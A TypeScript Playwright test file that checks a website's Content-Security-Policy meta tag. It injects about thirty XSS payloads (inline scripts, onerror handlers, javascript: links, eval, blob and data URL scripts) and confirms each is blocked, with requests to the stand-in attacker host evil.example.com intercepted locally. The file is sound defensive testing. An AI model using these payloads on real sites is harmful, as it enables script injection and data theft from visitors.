import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import type { Page } from 'playwright';
import { describe, expect, onTestFinished, test } from 'vitest';
import { close, listen } from '../../../cli/site/serve/listen.ts';
import { openSite } from '../../support/page.ts';
import { serveFile } from '../../support/serve-file.ts';
import { sites } from '../../support/sites.ts';

const { dist } = sites.real;
const site = openSite(dist);

const evil = 'https://evil.example.com';

interface Attack {
  name: string;
  /** The HTML that is injected before the main element. */
  html: string;
  /** What a visitor or an injected script does then. */
  act?: (page: Page) => Promise<unknown>;
  /** Whether it has done what it is for; `asked` are the addresses of the other host that the page has asked for. */
  hasActed: (page: Page, asked: readonly string[]) => Promise<boolean> | boolean;
}

const hasRun = (page: Page) => page.evaluate(() => 'hacked' in window);
const hasAsked = (_page: Page, asked: readonly string[]) => asked.length > 0;

const attacks: Attack[] = [
  { name: 'an inline script', html: '<script>window.hacked = true</script>', hasActed: hasRun },
  { name: 'a script of another host', html: `<script src="${evil}/x.js"></script>`, hasActed: hasRun },
  { name: 'an inline handler', html: '<img src="/no-such-picture" onerror="window.hacked = true">', hasActed: hasRun },
  {
    name: 'a javascript: link',
    html: '<a id="attack" href="javascript:void (window.hacked = true)">x</a>',
    act: press,
    hasActed: hasRun,
  },
  {
    name: 'a form to another host',
    html: `<form method="post" action="${evil}/form"><button id="attack"></button></form>`,
    act: press,
    hasActed: hasAsked,
  },
  {
    name: 'a base for all URLs',
    html: `<base href="${evil}/">`,
    hasActed: (page) => page.evaluate((evil) => document.baseURI.startsWith(evil), evil),
  },
  { name: 'a picture of another host', html: `<img src="${evil}/pixel.png" alt="">`, hasActed: hasAsked },
  {
    name: 'a stylesheet of another host',
    html: `<link rel="stylesheet" href="${evil}/x.css">`,
    hasActed: (page) => page.evaluate(() => getComputedStyle(document.body).opacity === '0.5'),
  },
  { name: 'a frame of another host', html: `<iframe src="${evil}/frame"></iframe>`, hasActed: hasAsked },
  {
    name: 'a fetch from another host',
    html: '',
    act: (page) => page.evaluate((evil) => fetch(`${evil}/data`, { mode: 'no-cors' }).catch(() => {}), evil),
    hasActed: hasAsked,
  },
  { name: 'a script in a data: URL', html: '<script src="data:,window.hacked=true"></script>', hasActed: hasRun },
  {
    name: 'a script in a blob: URL',
    html: '',
    act: (page) => run(page, "addScript(URL.createObjectURL(new Blob(['window.hacked = true'])))"),
    hasActed: hasRun,
  },
  {
    name: 'code in a string',
    html: '',
    // In a timer, since browsers let a debugger evaluate strings.
    act: (page) =>
      run(page, "new Promise((done) => setTimeout(() => { try { eval('window.hacked = true') } catch {} done() }))"),
    hasActed: hasRun,
  },
  {
    name: 'markup in a string',
    html: '',
    act: (page) =>
      run(
        page,
        'new Promise((done) => { window.done = done; document.body.innerHTML = \'<img src=/none onerror="window.hacked=true;done()">\' })',
      ),
    hasActed: hasRun,
  },
  { name: 'a module of another host', html: '', act: (page) => run(page, `import('${evil}/x.js')`), hasActed: hasRun },
  {
    name: 'a worker in a blob: URL',
    html: '',
    act: (page) =>
      run(
        page,
        "new Promise((done) => Object.assign(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), { onmessage: () => done(window.hacked = true), onerror: done }))",
      ),
    hasActed: hasRun,
  },
  {
    name: 'a frame with srcdoc',
    html: '<iframe srcdoc="&lt;script>parent.hacked = true&lt;/script>"></iframe>',
    hasActed: hasRun,
  },
  {
    name: 'a form that runs code',
    html: '<form action="javascript:void (window.hacked = true)"><button id="attack"></button></form>',
    act: press,
    hasActed: hasRun,
  },
  {
    name: 'a button that sends a form elsewhere',
    html: `<form method="post"><button id="attack" formaction="${evil}/form"></button></form>`,
    act: press,
    hasActed: hasAsked,
  },
  { name: 'an object', html: `<object data="${evil}/frame"></object>`, hasActed: hasAsked },
  { name: 'an embed', html: `<embed src="${evil}/frame">`, hasActed: hasAsked },
  { name: 'a video', html: `<video src="${evil}/video" autoplay muted></video>`, hasActed: hasAsked },
  { name: 'the poster of a video', html: `<video poster="${evil}/pixel.png"></video>`, hasActed: hasAsked },
  { name: 'a picture in an SVG', html: `<svg><image href="${evil}/pixel.png"/></svg>`, hasActed: hasAsked },
  { name: 'an image button', html: `<input type="image" src="${evil}/pixel.png" alt="">`, hasActed: hasAsked },
  {
    name: 'a picture in a style attribute',
    html: `<p style="background: url(${evil}/pixel.png)">x</p>`,
    hasActed: hasAsked,
  },
  {
    name: 'a style that reads the page',
    html: `<style>body { background: url(${evil}/pixel.png) }</style>`,
    hasActed: hasAsked,
  },
  { name: 'a preload link', html: `<link rel="preload" as="image" href="${evil}/x.png">`, hasActed: hasAsked },
  {
    name: 'an event stream',
    html: '',
    act: (page) => run(page, `new Promise((done) => { new EventSource('${evil}/data').onerror = done })`),
    hasActed: hasAsked,
  },
];

/** Runs code in the page as an injected script would; being blocked is not a test error. */
async function run(page: Page, code: string): Promise<void> {
  const prepared = `const addScript = (src) => new Promise((done) => document.head.append(
    Object.assign(document.createElement('script'), { onload: done, onerror: done, src })));`;
  await page.evaluate(`(async () => { ${prepared} await (${code}); })().catch(() => {})`);
}

/** Clicks on the attack, and waits until it has run, led to another page, or was stopped. */
async function press(page: Page): Promise<void> {
  const pressing = page.evaluate(() => {
    const ended = new Promise<void>((resolve) => {
      for (const type of ['securitypolicyviolation', 'pagehide']) addEventListener(type, () => resolve());
      const look = setInterval(() => {
        if (!('hacked' in window)) return;
        clearInterval(look);
        resolve();
      }, 10);
    });
    document.querySelector<HTMLElement>('#attack')?.click();
    return ended;
  });
  // It ends without an answer when it has led to another page.
  await Promise.race([pressing.catch(() => {}), page.waitForURL(`${evil}/**`)]);
}

/** The responses of the other host: everything that an attack needs. */
const answers: Record<string, { contentType: string; body: string }> = {
  '/x.js': { contentType: 'text/javascript', body: 'window.hacked = true' },
  '/x.css': { contentType: 'text/css', body: 'body { opacity: 0.5 }' },
};

/** Serves the files of the built site as they are, without a header of ours, and one page with changes. */
async function serveBare(html: string): Promise<string> {
  const server = createServer((request, response) => {
    if (request.url === '/') response.setHeader('Content-Type', 'text/html; charset=utf-8').end(html);
    else serveFile(dist, request, response);
  });
  onTestFinished(() => close(server));
  return listen(server, 0);
}

/** Opens the front page with the attack injected, and runs it. @returns whether it succeeded */
async function attack(html: string, { act, hasActed }: Attack): Promise<boolean> {
  const { page, violations } = await site.newPage();
  const asked: string[] = [];
  await page.route(`${evil}/**`, (route) => {
    const url = new URL(route.request().url());
    asked.push(url.href);
    return route.fulfill(
      answers[url.pathname] ?? { contentType: 'text/html', body: '<!doctype html><title>x</title>' },
    );
  });
  await page.goto(await serveBare(html), { waitUntil: 'networkidle' });
  await act?.(page);
  await page.waitForLoadState('networkidle');
  const acted = await hasActed(page, asked);
  violations.length = 0;
  return acted;
}

function frontPage(injected: string): string {
  return readFileSync(join(dist, 'index.html'), 'utf8').replace('<main', () => `${injected}<main`);
}

describe('on a host that ignores `_headers`, the policy in the page blocks', () => {
  test.each(attacks)('$name', async (each) => {
    const html = frontPage(each.html);
    const unprotected = html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
    expect(unprotected, 'The policy must have been there.').not.toBe(html);
    expect(await attack(unprotected, each), 'Without the policy it acts; otherwise this proves nothing.').toBe(true);
    expect(await attack(html, each), 'With the policy it does nothing.').toBe(false);
  });
});

test('on such a host, every form and frame of the site still works', async () => {
  const { page, thirdParties, errors, violations } = await site.newPage();
  const address = await serveBare(readFileSync(join(dist, 'index.html'), 'utf8'));
  await page.goto(address, { waitUntil: 'networkidle' });
  await page.locator('main').getByRole('textbox').fill('visitor@example');
  await page.keyboard.press('Enter');
  await page.locator('#toasts').getByText('Please enter a valid email address').waitFor();
  await page.goto(`${address}/book-call/`, { waitUntil: 'networkidle' });
  await page.getByTitle(/time/i).scrollIntoViewIfNeeded();
  await expect.poll(() => new Set(thirdParties).size).toBe(1);
  expect(violations).toEqual([]);
  expect(errors).toEqual([]);
});
